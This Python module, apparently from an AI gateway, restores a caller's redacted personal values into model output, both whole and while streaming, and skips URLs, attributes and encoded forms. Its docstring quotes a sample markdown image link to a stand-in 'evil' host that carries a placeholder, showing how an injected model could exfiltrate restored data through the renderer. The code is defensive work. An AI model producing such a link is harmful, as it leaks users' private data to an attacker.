"""Putting the caller's own values back into a model's text, whole or as it streams.

One pass, never inside what was just restored. Not into addresses, link targets,
HTML attributes or encoded forms: a model that was told to write
``![](https://evil/?q=[EMAIL_ADDRESS_1])`` would otherwise have the value fetched
from there by whatever shows the answer.
"""

from __future__ import annotations

import json
import re
from functools import cached_property
from typing import TYPE_CHECKING

from gateway.content.addresses import JsonWhereabouts, Whereabouts
from gateway.content.glance import placeholder
from gateway.content.placeholders import LONGEST, OPENING, TOLERANT, Name, named
from gateway.content.surrogates.matching import Matching

if TYPE_CHECKING:
    from collections.abc import Collection, Mapping

    from gateway.content.surrogates.stand_in import Surrogate

_MAYBE = re.compile(r"[\[({<\\_\uff3b\u3010\uff08\uff5b\uff1c\u300c]|[A-Z]$|[A-Z]{2}")
_OPEN_TAIL = re.compile(
    rf"(?:{OPENING} ?(?P<inside>[A-Za-z_ \-\\\uff3f]{{0,40}}[0-9]{{0,6}})s? ?"
    r"(?:\\|\\?[\])}>])?\\?"
    r"|(?<!\w)(?P<bare>[A-Z][A-Z_\uff3f]{0,40}[0-9]{0,6})s?|\\)$"
)
_LETTERS = re.compile(r"[^A-Z]")


_NO_STAND_INS = Matching(())


class Restorer:
    """Restores the placeholders of one exchange."""

    def __init__(self, table: Mapping[Name, str], surrogates: Collection[Surrogate] = ()) -> None:
        """`table` and `surrogates` hold what may be restored: this caller's own values."""
        self._table = table
        self.surrogates = Matching(surrogates) if surrogates else _NO_STAND_INS
        also = self.surrogates.pattern
        # One pattern, so that nothing is looked for inside of what was restored.
        self.pattern = re.compile(f"(?P<surrogate>{also})|{TOLERANT.pattern}") if also else TOLERANT
        self.unknown = 0
        """Placeholders of a known type whose number was never given out."""

    def text(self, text: str, *, json: bool = False) -> str:
        """A whole text restored; with `json`, values are escaped as JSON string contents."""
        if not self.surrogates.pattern and not placeholder(text):
            return text
        stream = self.stream(json=json)
        restored = stream.feed(text) + stream.end()
        self.unknown += stream.unknown
        return restored

    def stream(self, *, json: bool = False) -> StreamRestorer:
        """A restorer for one text that arrives in pieces."""
        return StreamRestorer(self, json=json)

    @property
    def idle(self) -> bool:
        """Whether there is nothing to restore at all."""
        return not self._table and not self.surrogates.pattern

    def value(self, name: Name) -> str | None:
        """What `name` stands for, or None if it must be left alone."""
        return self._table.get(name)

    @cached_property
    def _types(self) -> frozenset[str]:
        """Of the placeholders that were given out."""
        return frozenset([name.type for name in self._table])

    @cached_property
    def _letters(self) -> list[str]:
        """Those of the types."""
        return [_LETTERS.sub("", kind) for kind in self._types]

    def knows(self, kind: str) -> bool:
        """Whether any placeholder of that type was given out."""
        return kind in self._types

    def may_grow(self, letters: str) -> bool:
        """Whether a placeholder whose name begins with these letters could still follow."""
        start = _LETTERS.sub("", letters.upper())
        return any(kind.startswith(start) for kind in self._letters)


class StreamRestorer:
    """Restores one text in pieces. Holds back only a tail that may still become a placeholder."""

    def __init__(self, restorer: Restorer, *, json: bool) -> None:
        """For a text whose placeholders `restorer` knows."""
        self._restorer = restorer
        self.idle = restorer.idle
        """Whether everything leaves as it comes, so that nothing of it need be told."""

        self._stand_ins = bool(restorer.surrogates.pattern)
        self._json = json
        self._where: Whereabouts | JsonWhereabouts | None = None
        self._held = ""
        self._last = ""
        """The sign before `_since`, as it came."""

        self._since: list[str] = []
        """What went on as it came since `_where` has read: joined when a value could stand here."""

        self.unknown = 0

    def feed(self, piece: str) -> str:
        """The text that may go on, now that `piece` has come."""
        if self.idle:
            return piece
        text = self._held + piece
        if not _MAYBE.search(text) and not self._may_begin(text):
            self._held = ""
            if text:
                self._since.append(text)
            return text
        cut = self._cut(text)
        self._held = text[cut:]
        return self._restore(text[:cut])

    def end(self) -> str:
        """What was still held back, restored as it stands."""
        text, self._held = self._held, ""
        return self._restore(text)

    def leaves(self, word: str) -> bool:
        """Whether one plain word would go on as it comes; it is told with `went` when it does.

        A plain word is letters, of which none but the first is a capital and the last is none,
        with an apostrophe and the signs of a sentence.
        """
        return not self._held and not (self._stand_ins and self._may_begin(word))

    def went(self, word: str) -> None:
        """Note that a word which `leaves` has gone on."""
        if word:
            self._since.append(word)

    def _may_begin(self, text: str) -> bool:
        """Whether a stand-in could begin in `text`."""
        if not self._stand_ins:
            return False
        lead = self._lead()
        return self._restorer.surrogates.may_begin(lead + text, len(lead))

    def _lead(self) -> str:
        """The sign before the text: it decides whether a bare name begins there."""
        return self._since[-1][-1:] if self._since else self._last

    def _cut(self, text: str) -> int:
        """Where the tail begins that may still become a placeholder."""
        lead = self._lead()
        line = lead + text
        open_from = self._restorer.surrogates.opens(line, len(lead))
        cut = self._open_placeholder(line, lead)
        return min(len(text) if open_from is None else open_from - len(lead), cut)

    def _open_placeholder(self, line: str, lead: str) -> int:
        tail = _OPEN_TAIL.search(line, max(len(lead), len(line) - LONGEST))
        while tail is not None:
            letters = tail["inside"] if tail["inside"] is not None else tail["bare"]
            if self._restorer.may_grow(letters or ""):
                return tail.start() - len(lead)
            # Of "[EMAIL E" the bracket leads nowhere, but the last letter still may.
            tail = _OPEN_TAIL.search(line, tail.start() + 1)
        return len(line) - len(lead)

    def _restore(self, text: str) -> str:
        lead = self._lead()
        line, at, pieces = lead + text, len(lead), []
        for match in self._restorer.pattern.finditer(line, at):
            meant = self._meant(match)
            if meant is None:
                continue
            said, at = line[at : match.start()], match.start()
            value = self._value(meant, said, line[at])
            if value is None:
                pieces.append(said)
                continue
            pieces += [said, value]
            at = match.end()
        self._last = line[-1:]
        if at < len(line):
            self._since.append(line[at:])
        return "".join([*pieces, line[at:]]) if pieces else text

    def _value(self, meant: str, said: str, sign: str) -> str | None:
        """What stands there instead, behind what was `said` since; None inside of an address.

        `sign` is the first of what it stands for.
        """
        if self._where is None:
            self._where = JsonWhereabouts() if self._json else Whereabouts()
        self._where.read("".join([*self._since, said]))
        self._since.clear()
        if self._where.in_address:
            return None
        value = json.dumps(meant, ensure_ascii=False)[1:-1] if self._json else meant
        if sign == "\\" and self._where.escaping:
            # The backslash that it would take along is itself escaped, as in a path: it stays.
            value = f"\\{value}"
        self._where.read(value)
        return value

    def _meant(self, match: re.Match[str]) -> str | None:
        if match.re is not TOLERANT and match["surrogate"]:
            return self._restorer.surrogates.value(match["surrogate"])
        name = named(match)
        value = self._restorer.value(name)
        if value is None:
            self.unknown += self._restorer.knows(name.type)
        return value
